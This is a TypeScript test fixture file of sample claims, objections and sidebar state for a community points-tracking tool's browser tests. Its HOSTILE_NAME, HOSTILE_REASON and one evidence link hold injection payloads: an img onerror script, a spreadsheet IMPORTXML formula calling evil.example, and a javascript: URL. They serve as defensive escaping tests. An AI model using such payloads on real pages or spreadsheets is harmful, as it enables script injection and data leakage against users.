// Plain-JSON fixtures shaped like the ui-contract types, for the stubbed server in the browser tests.

import type {
  DialogOptions,
  ObjectionSummary,
  PendingClaim,
  SidebarState,
} from '../../src/shared/ui-contract';

export const HOSTILE_NAME = '<img src=x onerror="window.__pwned=1">';
export const HOSTILE_REASON = '=IMPORTXML("https://evil.example/","//a")<script>window.__pwned=2</script>';

export function claim(over: Partial<PendingClaim> = {}): PendingClaim {
  return {
    id: 'E1',
    row: 2,
    month: '2026-10',
    cadreId: '001',
    cadreName: '张三',
    ruleCode: 'T-MEDIATION',
    item: '成功调解居民矛盾纠纷',
    quantity: 2,
    unitPoints: 5,
    points: 10,
    reason: '10月8日调解3号楼邻里漏水纠纷，双方签字确认',
    evidenceLink: 'https://drive.google.com/file/d/abc/view',
    submitter: 'zhangsan@example.com',
    submittedAt: '2026-10-09 09:12:30',
    late: false,
    ...over,
  };
}

/** Three pending claims: an ordinary one, a hostile one (late, bad link), and a third. */
export function pendingClaims(): PendingClaim[] {
  return [
    claim(),
    claim({
      id: 'E2',
      row: 3,
      cadreId: '002',
      cadreName: HOSTILE_NAME,
      ruleCode: 'T-INFO-REGISTER',
      item: '入户走访中登记新增出租房屋、流动人口信息',
      quantity: 1,
      points: 5,
      reason: HOSTILE_REASON,
      evidenceLink: 'javascript:window.__pwned=3',
      submitter: 'lisi@example.com',
      submittedAt: '2026-11-02 18:40:00',
      late: true,
    }),
    claim({
      id: 'E3',
      row: 4,
      cadreId: '003',
      cadreName: '王五',
      ruleCode: 'T-CONTEST-JOIN',
      item: '参加社区或上级组织的比赛',
      quantity: 1,
      unitPoints: 2,
      points: 2,
      reason: '参加街道广场舞比赛',
      evidenceLink: '',
      submitter: 'wangwu@example.com',
      submittedAt: '2026-10-20 15:00:00',
    }),
  ];
}

export function sidebarState(over: Partial<SidebarState> = {}): SidebarState {
  const pending = over.pending ?? pendingClaims();
  return {
    user: { email: 'chair@example.com', isCommittee: true },
    months: [
      { month: '2026-10', published: false, pending: pending.length },
      { month: '2026-09', published: true, pending: 0 },
      { month: '2026-08', published: true, pending: 0 },
    ],
    month: '2026-10',
    published: false,
    counts: { pending: pending.length, intakeErrors: 2, objections: 1, problems: 0 },
    pending,
    notes: [],
    ...over,
  };
}

/** The state after some claims left the pending list. */
export function without(state: SidebarState, ids: string[]): SidebarState {
  const pending = state.pending.filter((c) => !ids.includes(c.id));
  return {
    ...state,
    pending,
    counts: { ...state.counts, pending: pending.length },
    months: state.months.map((m) => (m.month === state.month ? { ...m, pending: pending.length } : m)),
  };
}

export function dialogOptions(over: Partial<DialogOptions> = {}): DialogOptions {
  return {
    user: { email: 'chair@example.com', isCommittee: true },
    cadres: [
      { id: '001', name: '张三' },
      { id: '002', name: '李四' },
      { id: '003', name: HOSTILE_NAME },
    ],
    rules: [
      { code: 'B-CRITICIZED', item: '被上级点名批评', points: -5, category: '基础' },
      { code: 'T-COMPLAINT', item: '因服务问题被居民投诉', points: -1, category: '任务' },
      { code: 'T-TASK-LATE', item: '未在规定时间内完成上级及各口子安排的工作', points: -2, category: '任务' },
      { code: 'T-CONTEST-TOP3', item: '比赛获得前三名（与参赛分累加）', points: 5, category: '任务' },
      { code: 'R-HONOR-CITY', item: '受市级表彰', points: 10, category: '奖励' },
    ],
    scoreRules: [
      { code: 'B-QUARTER-TOP5', item: '四知四清四掌握', scorePeriod: 'quarter' },
      { code: 'R-STUDY-TOP5', item: '学习强国', scorePeriod: 'half-year' },
    ],
    months: ['2026-11', '2026-10'],
    month: '2026-10',
    balances: [
      { cadreId: '001', availablePoints: 260, halfDays: 2, redeemedHalfDays: 1 },
      { cadreId: '002', availablePoints: 40, halfDays: 0, redeemedHalfDays: 0 },
      { cadreId: '003', availablePoints: 150, halfDays: 1, redeemedHalfDays: 0 },
    ],
    pointsPerHalfDay: 100,
    publishedMonths: ['2026-09', '2026-08'],
    objections: objections(),
    today: '2026-11-03',
    ...over,
  };
}

export function objection(over: Partial<ObjectionSummary> = {}): ObjectionSummary {
  return {
    id: 'O3',
    month: '2026-09',
    cadreId: '002',
    cadreName: '李四',
    entryId: 'E0123',
    content: '9月15日“被上级点名批评”扣 5 分有误：当天在区里参加培训，有签到表。',
    status: '待处理',
    opinion: '',
    ...over,
  };
}

/** Newest first: two pending (one hostile, about a missing entry) and one already decided. */
export function objections(): ObjectionSummary[] {
  return [
    objection(),
    objection({ id: 'O2', cadreId: '003', cadreName: HOSTILE_NAME, entryId: '', content: HOSTILE_REASON }),
    objection({
      id: 'O1',
      month: '2026-08',
      cadreId: '001',
      cadreName: '张三',
      entryId: 'E0042',
      content: '8月的迟到记录有误。',
      status: '不成立',
      opinion: '经核对签到表，8月6日迟到属实。',
    }),
  ];
}
